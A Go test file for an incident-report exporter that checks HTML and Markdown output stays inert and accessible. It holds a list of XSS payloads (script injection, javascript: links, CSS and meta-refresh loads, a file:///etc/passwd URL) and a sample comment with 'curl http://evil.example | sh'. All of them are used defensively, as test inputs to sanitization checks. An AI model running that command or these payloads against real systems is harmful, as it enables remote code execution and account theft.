package export

import (
	"bytes"
	"cmp"
	"context"
	"encoding/base64"
	"encoding/json"
	"flag"
	"fmt"
	"io"
	"net/url"
	"os"
	"reflect"
	"slices"
	"strings"
	"testing"
	"time"
	"unicode/utf8"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
	"github.com/yuin/goldmark"
	"github.com/yuin/goldmark/ast"
	"github.com/yuin/goldmark/extension"
	east "github.com/yuin/goldmark/extension/ast"
	mdtext "github.com/yuin/goldmark/text"
	"golang.org/x/net/html"
	"pgregory.net/rapid"

	"github.com/incidentkit/incidentkit/activity"
	"github.com/incidentkit/incidentkit/alert"
	"github.com/incidentkit/incidentkit/incident"
)

var update = flag.Bool("update", false, "rewrite testdata from what is written now")

type format struct {
	name  string
	write func(context.Context, io.Writer, Report) error
}

var formats = []format{
	{"html", WriteHTML},
	{"md", WriteMarkdown},
	{"json", func(_ context.Context, w io.Writer, r Report) error {
		e := json.NewEncoder(w)
		e.SetIndent("", "  ")
		return e.Encode(r)
	}},
}

func written(t testing.TB, f func(context.Context, io.Writer, Report) error, r Report) string {
	t.Helper()
	var b bytes.Buffer
	require.NoError(t, f(t.Context(), &b, r))
	return b.String()
}

// rich returns a report with everything that a report can have: caps, a comment with Markdown, one that was redacted,
// images, links and another time zone.
func rich(t testing.TB) Report {
	c, entries := sample(t, 12)
	c.Incident.Description = "First line of the description.\nSecond line."
	c.Incident.References = []incident.Reference{{System: "microsoftDefender", ID: "924565", URL: "https://security.example/incidents/924565"}}
	c.Alerts[0].URL = "https://security.example/alerts/0"
	c.Alerts[0].Evidence[0].Verdict = alert.NoThreatsFound
	c.Alerts[1].Title = "تنبيه: <script>alert(1)</script>"
	c.Alerts[2].Evidence = append(c.Alerts[2].Evidence, alert.Evidence{
		Entity: alert.URL{URL: "https://evil.example/a?b=c&d=<e>"}, Verdict: alert.NoThreatsFound, Roles: []alert.Role{alert.CommandAndControl},
	})
	at := start.Add(60 * time.Hour)
	file, err := base64.StdEncoding.DecodeString("iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==")
	require.NoError(t, err)
	_, image, err := incident.Image{Name: "mail.png", Data: file}.Decode()
	require.NoError(t, err)
	by := activity.Actor{ID: "noor@contoso.example", Name: "Noor"}
	entries = append(entries,
		activity.Entry{Seq: 90, Time: at, Type: activity.Commented, Actor: by, Attachments: []activity.Attachment{image}, Text: "# Findings\n\n" +
			"The **mail** came from `192.0.2.1`, see [the gateway](https://gw.example/?q=1&amp;r=2) and ![the mail](attachment:mail.png).\n\n" +
			"1. revoke\n2. wipe\n\n> quoted\n\n```\ncurl http://evil.example | sh\n```\n\n| host | state |\n|---|---|\n| one | ~~up~~ down |\n\n<b>not bold</b>"},
		activity.Entry{Seq: 91, Time: at, Type: activity.Commented, Actor: by, Text: "a secret", Redacted: true, Attachments: []activity.Attachment{image}},
		activity.Entry{Seq: 92, Time: at, Type: activity.Commented, Actor: by, Text: "Said elsewhere.", Origin: "inc-0", Occurred: start})
	opts, err := (&Options{Location: time.FixedZone("Elsewhere", 5*3600+1800), MaxEvidence: 12}).withDefaults()
	require.NoError(t, err)
	r := collect(c, entries, opts)
	r.Images = map[string][]byte{image.SHA256: file}
	return r
}

// The files in testdata are what people get; look at them when they change. To rewrite them: go test ./export -run TestGolden -update
func TestGolden(t *testing.T) {
	for name, r := range map[string]Report{"rich": rich(t), "empty": {Sections: []Section{
		Overview, IncidentSummary, IncidentReport, AttackStory, Assets, Evidence, Alerts, Activity,
	}}} {
		for _, f := range formats {
			t.Run(name+"."+f.name, func(t *testing.T) {
				path := "testdata/" + name + "." + f.name
				got := written(t, f.write, r)
				if *update {
					require.NoError(t, os.WriteFile(path, []byte(got), 0o644))
				}
				want, err := os.ReadFile(path)
				require.NoError(t, err)
				assert.Equal(t, string(want), got)
				assert.True(t, utf8.ValidString(got))
			})
		}
	}
}

// texts calls f with every text of v and where it stands.
func texts(v reflect.Value, path string, f func(path string, s reflect.Value)) {
	switch v.Kind() {
	case reflect.String:
		f(path, v)
	case reflect.Struct:
		for n := range v.NumField() {
			if v.Type().Field(n).IsExported() {
				texts(v.Field(n), path+"."+v.Type().Field(n).Name, f)
			}
		}
	case reflect.Slice, reflect.Array:
		for n := range v.Len() {
			texts(v.Index(n), path, f)
		}
	}
}

// told reports whether a document tells the text at path, rather than needing it to tell others apart.
func told(path string) bool {
	if rest, ok := strings.CutPrefix(path, ".Incident."); ok {
		return slices.Contains([]string{"Name", "Tags.Name", "Description", "Note"}, rest)
	}
	return !slices.Contains([]string{".SummaryBy", ".Assets.Group", ".Assets.Rows.Key", ".Evidence.Rows.Key", ".Alerts.ID", ".Activity.Changes.Path", ".Activity.Cause", ".Activity.AlertID"}, path)
}

// filled returns a report of all sections in which every list has one element and every text is another one, and those texts that a
// document tells.
func filled(text func(n int) string) (Report, []string) {
	r := Report{
		Generated: start, Sections: []Section{Overview, IncidentSummary, IncidentReport, AttackStory, Assets, Evidence, Alerts, Activity},
		Facts: make([]Fact, 1), MergedFrom: make([]MergedRow, 1), MergedInto: make([]MergedRow, 1), Threats: []Threat{{Techniques: make([]string, 1)}}, Story: []Event{{Entities: make([]string, 1)}},
		Assets:   []AssetList{{Rows: []AssetRow{{Roles: make([]alert.Role, 1), Tags: make([]string, 1)}}}},
		Evidence: EvidenceList{Rows: []EvidenceRow{{Roles: make([]alert.Role, 1)}}}, Alerts: []AlertRow{{Techniques: make([]string, 1), Evidence: make([]AlertEvidence, 1)}},
		Activity: []ActivityRow{{Changes: make([]ChangeRow, 1), Reasons: make([]string, 1), Attachments: make([]activity.Attachment, 1)}},
		Incident: incident.Incident{Status: incident.Resolved, Tags: make([]incident.Tag, 1)},
	}
	var want []string
	texts(reflect.ValueOf(&r).Elem(), "", func(path string, s reflect.Value) {
		if strings.HasSuffix(path, ".Extra") {
			return
		}
		s.SetString(text(len(want)))
		if told(path) && path != ".Threats.Category" { // said by its Title
			want = append(want, s.String())
		}
	})
	return r, want
}

// nasty draws texts that mean something in HTML, URLs, style sheets, Markdown or Unicode.
func nasty(t *rapid.T, n int) string {
	piece := rapid.OneOf(
		rapid.SampledFrom(corpus), rapid.StringN(0, 8, -1), rapid.SampledFrom([]string{
			"\x00", "\xff", "\xed\xa0\x80", "\r\n", "\n", "\n\n", "\t", "    ", "\u202e", "\u2028", "\ufeff", "\u200b", "# ", "- ", "1. ", "> ", "|", "---", "```", "~~~", "===",
			"<!--", "-->", "]]>", "&amp;", "&#60;", "*", "_", "\\", "`", "[x](y)", "![x](http://e.example/i.png)", "[^1]: x", "http://e.example", "www.e.example",
			"mailto:a@b.example", "a@b.example", "<http://e.example>", ":-", "+", "$x$", ":smile:",
		}),
	)
	return fmt.Sprintf("T%dq", n) + strings.Join(rapid.SliceOfN(piece, 0, 5).Draw(t, "pieces"), "") + "z"
}

// corpus are attacks on those who show what others wrote: those of the OWASP cheat sheets and of Markdown. Peers that fell for such: P9.
var corpus = []string{
	`<script>document.title="run"</script>`, `</title><script>document.title="run"</script>`, `</style><script>document.title="run"</script>`,
	`"><img src=x onerror="document.title='run'">`, `' onmouseover='document.title="run"`, `<svg/onload=document.title="run">`,
	`<iframe srcdoc="<script>parent.document.title='run'</script>">`, `<img src="http://127.0.0.1:9/canary.png">`, `<a href="javascript:document.title='run'">x</a>`,
	`javascript:document.title="run"`, `JaVaScRiPt:alert(1)`, "java\tscript:alert(1)", " javascript:alert(1)", "\x01javascript:alert(1)", `data:text/html,<script>alert(1)</script>`,
	`vbscript:msgbox(1)`, `[x](javascript:alert(1))`, `[x](java&#115;cript:alert(1))`, `[x](data:text/html;base64,PHNjcmlwdD4=)`, `![x](http://127.0.0.1:9/canary.png)`,
	`![x](javascript:alert(1))`, "[x]: javascript:alert(1)\n\n[x]", `<javascript:alert(1)>`, `<https://x.example/"onclick=alert(1)>`, `[x](https://x.example "onclick=alert(1)")`,
	`[x](https://x.example/"onclick="alert(1))`, `<link rel=stylesheet href=http://127.0.0.1:9/canary.css>`, `<style>@import "http://127.0.0.1:9/canary.css";</style>`,
	`<meta http-equiv=refresh content="0;url=http://127.0.0.1:9/canary">`, `<base href="http://127.0.0.1:9/">`, `<form action=http://127.0.0.1:9/><input type=submit>`,
	`<object data="http://127.0.0.1:9/canary"></object>`, `<math><mtext></mtext><script>alert(1)</script></math>`, `--><script>alert(1)</script>`, `{{.Style}}`, `{{"<b>"}}`,
	"```html\n<script>alert(1)</script>\n```", `<div style="background:url(http://127.0.0.1:9/canary)">x</div>`, `http://[::1`, `//evil.example/x`, `https:evil`, `file:///etc/passwd`,
	`<details open ontoggle=alert(1)>`, `<svg><use href="data:image/svg+xml,<svg/>"/></svg>`, `&lt;script&gt;`, `<ScRiPt>alert(1)</sCrIpT>`, `<script\x00>alert(1)</script>`,
}

var allowedTags = strings.Fields("html head meta title style body header p h1 h2 h3 h4 ul ol li nav a main section dl div dt dd table caption thead tbody tr th td " +
	"article span bdi strong em code pre blockquote del br hr figure figcaption img svg desc rect line text polygon")

var allowedAttributes = map[string]string{
	"html": "lang", "meta": "charset http-equiv content name", "p": "class dir", "h1": "dir", "h2": "id", "h3": "dir", "ul": "class", "ol": "class start", "nav": "aria-labelledby",
	"a": "href rel", "section": "aria-labelledby", "div": "class dir", "th": "scope class", "td": "class", "bdi": "dir", "span": "class aria-hidden",
	"figure": "id", "figcaption": "dir", "img": "src alt width height",
	"svg": "viewBox role aria-labelledby", "title": "id", "desc": "id", "rect": "class x y width height fill stroke stroke-width", "line": "class x1 y1 x2 y2 stroke stroke-width",
	"text": "class x y font-size font-weight text-anchor fill", "polygon": "class points fill",
}

// inert fails unless all that a document consists of is harmless, and returns its text.
func inert(t require.TestingT, document string) string {
	root, err := html.Parse(strings.NewReader(document))
	require.NoError(t, err)
	var b strings.Builder
	for n := range root.Descendants() {
		switch n.Type {
		case html.TextNode:
			if n.Parent.Data != "style" && n.Parent.Data != "title" {
				b.WriteString(n.Data)
			}
		case html.CommentNode:
			require.Fail(t, "a comment", n.Data)
		case html.ElementNode:
			require.Contains(t, allowedTags, n.Data)
			require.Contains(t, []string{"", "svg"}, n.Namespace)
			for _, a := range n.Attr {
				require.Contains(t, strings.Fields(allowedAttributes[n.Data]), a.Key, n.Data)
				if a.Key == "src" {
					require.Regexp(t, `^data:image/(png|jpeg|gif);base64,[A-Za-z0-9+/]+=*$`, a.Val)
				}
				if a.Key == "href" && !strings.HasPrefix(a.Val, "#") {
					require.Regexp(t, `^(?i:https?://|mailto:)`, a.Val)
					b.WriteString(address(a.Val))
				}
			}
		}
	}
	require.NotContains(t, b.String(), "\x00")
	return b.String()
}

// address returns a link's target as it was given.
func address(target string) string {
	if plain, err := url.PathUnescape(target); err == nil {
		return plain
	}
	return target
}

// loosely returns s without what documents may change: blanks, the case of letters where identifiers become words.
func loosely(s string) string { return strings.ToLower(squeeze(visible(s))) }

func mustTell(t require.TestingT, document string, want []string) {
	document = loosely(document)
	for _, w := range want {
		if !strings.Contains(document, loosely(w)) {
			require.Fail(t, "a text is missing", "%q in %.2000q", w, document)
		}
	}
}

// Whatever stands in a report, HTML says it all and does nothing. Covers P9 and S2: script, markup and addresses in every field.
func TestHTMLTellsAllAndDoesNothing(t *testing.T) {
	check := func(t require.TestingT, r Report, want []string) {
		var b bytes.Buffer
		require.NoError(t, WriteHTML(context.Background(), &b, r))
		mustTell(t, inert(t, b.String()), want)
	}
	for _, attack := range corpus {
		r, want := filled(func(n int) string { return fmt.Sprintf("%sT%dq", attack, n) })
		check(t, r, want)
		r.Activity[0].What = activity.Commented.Title() // now its Text is Markdown
		check(t, r, nil)
	}
	rapid.Check(t, func(rt *rapid.T) {
		r, want := filled(func(n int) string { return nasty(rt, n) })
		check(rt, r, want)
	})
}

func FuzzHTML(f *testing.F) {
	for _, attack := range corpus {
		f.Add(attack)
	}
	f.Fuzz(func(t *testing.T, text string) {
		r, want := filled(func(n int) string { return fmt.Sprintf("T%dq%sz", n, text) })
		mustTell(t, inert(t, written(t, WriteHTML, r)), want)
		inert(t, string(commentHTML(text)))
		markdownTells(t, written(t, WriteMarkdown, r), want)
	})
}

// A page of HTML is one that a reader with any aid can go through: one language, one title, headings that skip no level,
// tables that are named and whose columns are too.
func TestHTMLIsAccessible(t *testing.T) {
	root, err := html.Parse(strings.NewReader(written(t, WriteHTML, rich(t))))
	require.NoError(t, err)
	attr := func(n *html.Node, key string) string {
		for _, a := range n.Attr {
			if a.Key == key {
				return a.Val
			}
		}
		return ""
	}
	level, tables, tops := 0, 0, 0
	ids := map[string]bool{}
	var links []string
	for n := range root.Descendants() {
		if id := attr(n, "id"); id != "" {
			assert.False(t, ids[id], id)
			ids[id] = true
		}
		if n.Type != html.ElementNode {
			continue
		}
		switch n.Data {
		case "html":
			assert.Equal(t, "en", attr(n, "lang"))
		case "h1", "h2", "h3", "h4":
			now := int(n.Data[1] - '0')
			assert.LessOrEqual(t, now, level+1, "a heading of level %d after one of level %d", now, level)
			level = now
			if now == 1 {
				tops++
			}
		case "table":
			if attr(n.Parent, "class") != "wide" {
				continue // of a comment
			}
			tables++
			assert.Equal(t, "caption", n.FirstChild.NextSibling.Data)
		case "th":
			if attr(n, "scope") == "" {
				assert.Equal(t, "comment", attr(n.Parent.Parent.Parent.Parent, "class"))
			}
		case "a":
			if target, ok := strings.CutPrefix(attr(n, "href"), "#"); ok {
				links = append(links, target)
			}
		}
	}
	assert.Equal(t, 1, tops)
	assert.Equal(t, 6, tables)
	assert.Equal(t, []string{"overview", "incidentSummary", "attackStory", "assets", "evidence", "alerts", "activity"}, links)
	for _, l := range links {
		assert.True(t, ids[l], l)
	}
}

// A browser is told to run and to load nothing, and that the one style is meant.
func TestHTMLForbidsWhatItDoesNotNeed(t *testing.T) {
	got := written(t, WriteHTML, rich(t))
	assert.Regexp(t, `<meta http-equiv="Content-Security-Policy" content="default-src 'none'; style-src 'sha256-[^' ]{43,60}'; img-src data:; base-uri 'none'; form-action 'none'">`, html.UnescapeString(got))
	assert.NotContains(t, got, "style=")
	assert.Equal(t, 1, strings.Count(got, "<style>"))
}

// Comments mean what their authors typed, and no more.
func TestComments(t *testing.T) {
	for source, want := range map[string]string{
		"**bold** and `code`":                "<p><strong>bold</strong> and <code>code</code></p>\n",
		"# Title":                            "<p><strong>Title</strong></p>\n",
		"one\ntwo  \nthree":                  "<p>one\ntwo<br>\nthree</p>\n",
		"[a](https://a.example/?x=1&y=2)":    `<p><a href="https://a.example/?x=1&amp;y=2" rel="noopener noreferrer nofollow">a</a></p>` + "\n",
		"[a](https://a.example/?x&amp;y)":    `<p><a href="https://a.example/?x&amp;y" rel="noopener noreferrer nofollow">a</a></p>` + "\n",
		"[a](javascript:alert(1))":           "<p>a (javascript:alert(1))</p>\n",
		"<mira@contoso.example>":             `<p><a href="mailto:mira@contoso.example" rel="noopener noreferrer nofollow">mira@contoso.example</a></p>` + "\n",
		"<https://a.example>":                `<p><a href="https://a.example" rel="noopener noreferrer nofollow">https://a.example</a></p>` + "\n",
		"<ftp://a.example>":                  "<p>ftp://a.example</p>\n",
		"![shot](https://a.example/i.png)":   `<p><a href="https://a.example/i.png" rel="noopener noreferrer nofollow">Image: shot</a></p>` + "\n",
		"![shot](attachment:mail.png)":       "<p>Image: shot (attachment:mail.png)</p>\n",
		"a <b>b</b>":                         "<p>a &lt;b&gt;b&lt;/b&gt;</p>\n",
		"<div>\nx\n</div>":                   "<pre>&lt;div&gt;\nx\n&lt;/div&gt;</pre>\n",
		"```go\na < b\n```":                  "<pre><code>a &lt; b\n</code></pre>\n",
		"a&#x202e;b\u202ec":                  "<p>a[U+202E]b[U+202E]c</p>\n",
		"~~no~~":                             "<p><del>no</del></p>\n",
		"| a |\n| :-- |\n| b |":              "<table>\n<thead>\n<tr>\n<th>a</th>\n</tr>\n</thead>\n<tbody>\n<tr>\n<td>b</td>\n</tr>\n</tbody>\n</table>\n",
		"3. three":                           "<ol start=\"3\">\n<li>three</li>\n</ol>\n",
		"![[a](https://a.example)](x \"t\")": "<p>Image: <a href=\"https://a.example\" rel=\"noopener noreferrer nofollow\">a</a> (x)</p>\n",
	} {
		assert.Equal(t, want, string(commentHTML(source)), source)
	}
	deep := strings.Repeat("> ", 15_000)
	assert.NotEmpty(t, commentHTML(deep+"x"))
}

// markdownTells fails unless a document of Markdown consists of nothing but what the writer puts in, and says what it should.
func markdownTells(t require.TestingT, document string, want []string) {
	source := []byte(document)
	root := goldmark.New(goldmark.WithExtensions(extension.GFM, extension.Footnote, extension.DefinitionList)).Parser().Parse(mdtext.NewReader(source))
	w := goldmark.DefaultRenderer()
	var b strings.Builder
	require.NoError(t, ast.Walk(root, func(n ast.Node, entering bool) (ast.WalkStatus, error) {
		if !entering {
			return ast.WalkContinue, nil
		}
		switch n := n.(type) {
		case *ast.Text:
			var out bytes.Buffer
			paragraph := ast.NewParagraph()
			paragraph.AppendChild(paragraph, ast.NewTextSegment(n.Segment))
			require.NoError(t, w.Render(&out, source, paragraph))
			b.WriteString(html.UnescapeString(strings.TrimSuffix(strings.TrimPrefix(out.String(), "<p>"), "</p>\n")))
		case *ast.Link:
			require.Regexp(t, `^(?i:https?://|mailto:)`, string(n.Destination))
			b.WriteString(address(html.UnescapeString(string(n.Destination))))
		case *ast.Heading, *ast.Paragraph, *ast.TextBlock, *ast.List, *ast.ListItem, *ast.Emphasis, *ast.Document, *ast.Blockquote,
			*east.Table, *east.TableHeader, *east.TableRow, *east.TableCell:
		default:
			require.Fail(t, "markup", "%s in %q", n.Kind(), document)
		}
		return ast.WalkContinue, nil
	}))
	mustTell(t, b.String(), want)
}

// Whatever stands in a report, Markdown says it all, and nothing of it is markup: the document has as many parts of each kind as one
// whose texts are plain words. Covers P9.
func TestMarkdownTellsAllAndNothingIsMarkup(t *testing.T) {
	count := func(t require.TestingT, r Report) map[string]int {
		var b bytes.Buffer
		require.NoError(t, WriteMarkdown(context.Background(), &b, r))
		parts := map[string]int{}
		root := goldmark.New(goldmark.WithExtensions(extension.GFM)).Parser().Parse(mdtext.NewReader(b.Bytes()))
		require.NoError(t, ast.Walk(root, func(n ast.Node, entering bool) (ast.WalkStatus, error) {
			switch n.(type) {
			case *ast.Text, *ast.Paragraph, *ast.TextBlock:
			default:
				if entering {
					parts[n.Kind().String()]++
				}
			}
			return ast.WalkContinue, nil
		}))
		return parts
	}
	plain, _ := filled(func(n int) string { return fmt.Sprintf("T%dq", n) })
	plain.Facts[0].URL, plain.Alerts[0].URL = "", ""
	parts := count(t, plain)
	check := func(t require.TestingT, r Report, want []string) {
		var b bytes.Buffer
		require.NoError(t, WriteMarkdown(context.Background(), &b, r))
		markdownTells(t, b.String(), want)
		r.Facts[0].URL, r.Alerts[0].URL = "", "" // links are meant
		require.Equal(t, parts, count(t, r))
	}
	for _, attack := range corpus {
		r, want := filled(func(n int) string { return fmt.Sprintf("%sT%dq", attack, n) })
		check(t, r, want)
		r.Activity[0].What = activity.Commented.Title()
		markdownTells(t, written(t, WriteMarkdown, r), want[:1])
	}
	rapid.Check(t, func(rt *rapid.T) {
		r, want := filled(func(n int) string { return nasty(rt, n) })
		check(rt, r, want)
	})
}

func TestVisible(t *testing.T) {
	for in, want := range map[string]string{
		"plain": "plain", "a\r\nb\rc\td\n": "a\nb\nc\td\n", "\xff\xed\xa0\x80": "\uFFFD\uFFFD\uFFFD\uFFFD", "invoice\u202etxt.exe": "invoice[U+202E]txt.exe",
		"\x00\x1b[0m\u0085": "[U+0000][U+001B][0m[U+0085]", "事 שלום é 😀\u200d👧": "事 שלום é 😀\u200d👧", "pay\u200bpal\u00ad.\u3164\ufe0f\U000e0041\u200d": "pay[U+200B]pal[U+00AD].[U+3164][U+FE0F][U+E0041][U+200D]", "\ufeff\ufffe\U0001fffe": "[U+FEFF][U+FFFE][U+1FFFE]", "\u2028": "[U+2028]",
	} {
		assert.Equal(t, want, visible(in))
	}
}

// JSON keeps a report, whatever its texts are. Covers P6: lone surrogates.
func TestJSONRoundTrip(t *testing.T) {
	r := rich(t)
	data, err := json.Marshal(r)
	require.NoError(t, err)
	var back Report
	require.NoError(t, json.Unmarshal(data, &back))
	again, err := json.Marshal(back)
	require.NoError(t, err)
	assert.JSONEq(t, string(data), string(again))
	for _, f := range formats {
		assert.Equal(t, written(t, f.write, r), written(t, f.write, back), f.name)
	}
	rapid.Check(t, func(rt *rapid.T) {
		r, _ := filled(func(n int) string { return nasty(rt, n) })
		r.Incident.Extra = "{\"x\":\"\xff\"}"
		data, err := json.Marshal(r)
		require.NoError(rt, err)
		require.True(rt, utf8.Valid(data))
		var back Report
		require.NoError(rt, json.Unmarshal(data, &back))
		texts(reflect.ValueOf(&r).Elem(), "", func(_ string, s reflect.Value) { s.SetString(string([]rune(s.String()))) })
		r.Incident.Extra = back.Incident.Extra
		require.Equal(rt, r, back)
	})
	require.NoError(t, json.Unmarshal([]byte(`{"version":1,"verdict":"\ud800","later":true}`), &back))
	assert.Equal(t, Report{Verdict: "\uFFFD"}, back)
}

func TestJSONVersion(t *testing.T) {
	for _, text := range []string{`{}`, `{"version":2}`, `{"version":0}`, `{"version":"1"}`, `{"version":null}`, `{"generated":"2026-03-14T08:00:00Z"}`} {
		r := Report{Verdict: "kept"}
		err := json.Unmarshal([]byte(text), &r)
		require.ErrorIs(t, err, alert.ErrInvalid, text)
		assert.ErrorContains(t, err, "version")
		assert.Equal(t, Report{Verdict: "kept"}, r)
	}
	data, err := json.Marshal(Report{})
	require.NoError(t, err)
	assert.True(t, strings.HasPrefix(string(data), `{"version":1,`), string(data))
}

// Levels are words and shapes: without colour nothing is lost.
func TestLevelsAreWordsAndShapes(t *testing.T) {
	shapes := map[string]bool{}
	for s := alert.Unrated; s <= alert.High; s++ {
		c := severityMarked(s)
		assert.Equal(t, words(s.String()), c.Text)
		assert.False(t, shapes[c.Mark.Shape], c.Text)
		shapes[c.Mark.Shape] = true
	}
	for _, f := range formats[:2] {
		got := written(t, f.write, rich(t))
		for _, want := range []string{"High severity", "▲", "Malicious", "◆", "Suspicious", "✓", "No threats found"} {
			assert.Contains(t, got, want, f.name)
		}
	}
}

// What was left out, taken away or is in another time zone is said. Covers P10 and T1.
func TestDocumentsSayWhatIsNotThere(t *testing.T) {
	for _, f := range formats[:2] {
		got := html.UnescapeString(strings.ReplaceAll(written(t, f.write, rich(t)), `\`, ""))
		for _, want := range []string{
			"Devices · 10 of 12 shown", "Evidence · 12 of 85 shown", "4 users, the worst first", "[Comment redacted]", "Attached: [redacted], image/png",
			"Times are in Elsewhere.", "Generated 2026-03-16 15:30:00 +05:30", "Time (+05:30)", "Times are in UTC+05:30.", "2026-03-14 13:30:00", "Copied from incident inc-0",
		} {
			assert.Contains(t, got, want, f.name)
		}
		assert.NotContains(t, got, "secret", f.name)
	}
}

func TestDocumentsHaveTheSectionsAskedFor(t *testing.T) {
	for s := Overview; s <= Activity; s++ {
		o := &Options{Sections: []Section{s}}
		if s == IncidentReport {
			o.Summarizer = func(context.Context, Section, incident.Case, []activity.Entry) (string, error) { return "Prose.", nil }
		}
		r := report(t, 2, o)
		page := written(t, WriteHTML, r)
		assert.Equal(t, 1, strings.Count(page, "<section"))
		assert.Contains(t, page, fmt.Sprintf(`<h2 id="%s">`, s))
		assert.Equal(t, 1, strings.Count("\n"+written(t, WriteMarkdown, r), "\n## "))
	}
	for _, f := range formats[:2] {
		assert.NotEmpty(t, written(t, f.write, Report{Sections: []Section{99}}))
	}
}

// Nothing is written when the context is done or something goes wrong.
func TestDocumentErrors(t *testing.T) {
	down := io.ErrClosedPipe
	for _, f := range formats[:2] {
		var b bytes.Buffer
		ctx, cancel := context.WithCancel(t.Context())
		cancel()
		assert.ErrorIs(t, f.write(ctx, &b, rich(t)), context.Canceled, f.name)
		assert.Empty(t, b.String())
		assert.ErrorIs(t, f.write(t.Context(), brokenWriter{down}, rich(t)), down, f.name)
	}
}

func TestSafeURL(t *testing.T) {
	for address, want := range map[string]bool{
		"https://a.example": true, "HTTP://a.example": true, "mailto:a@b.example": true, "": false, "a.example": false, "//a.example": false, "javascript:alert(1)": false,
		" https://a.example": false, "https:a": false, "data:,x": false, "\x01https://a": false, "file:///a": false, "https": false, "mailto": false,
	} {
		assert.Equal(t, want, safeURL(address), address)
		if u, err := url.Parse(address); err == nil && want {
			assert.Contains(t, []string{"http", "https", "mailto"}, cmp.Or(u.Scheme, "none"))
		}
	}
}

// What a file name ends with is on the right, and a list keeps its order, whatever letters they have.
func TestNamesInHTMLStandFromLeftToRight(t *testing.T) {
	for in, want := range map[string]string{
		"a, b":                 "<bdi>a, b</bdi>",
		"<b>":                  "<bdi>&lt;b&gt;</bdi>",
		"אב.docm":              `<bdi dir="ltr"><bdi dir="ltr">אב</bdi>.<bdi dir="ltr">docm</bdi></bdi>`,
		"אב, ג ד, <b>":         `<bdi dir="ltr"><bdi dir="ltr">אב</bdi>,<bdi dir="ltr"> ג ד</bdi>,<bdi dir="ltr"> &lt;b&gt;</bdi></bdi>`,
		"/אב\"x\u202e":         `<bdi dir="ltr">/<bdi dir="ltr">אב&#34;x[U+202E]</bdi></bdi>`,
		"C:\\אב\\\\10.0.0.7 ג": `<bdi dir="ltr"><bdi dir="ltr">C</bdi>:\<bdi dir="ltr">אב</bdi>\\<bdi dir="ltr">10.0.0.7 ג</bdi></bdi>`,
	} {
		assert.Equal(t, want, string(nameHTML(in)))
	}
}
